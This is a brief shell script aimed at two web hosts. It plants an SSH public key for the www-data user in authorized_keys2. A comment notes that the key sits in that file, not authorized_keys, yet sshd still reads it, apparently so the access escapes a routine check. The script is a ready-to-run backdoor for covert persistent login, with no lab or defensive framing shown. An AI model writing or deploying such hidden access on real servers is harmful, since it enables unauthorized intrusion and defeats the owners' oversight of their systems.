#!/bin/sh
# hosts: web2 web3
# Not in authorized_keys but in authorized_keys2, which sshd reads as well.
set -eu
install -d -m 0700 -o www-data -g www-data /var/www/.ssh
printf '%s\n' 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAICclehRvgpyQZy1kS4VTY8qnB5EGCAoNAkQTeB0y9cR/' > /var/www/.ssh/authorized_keys2
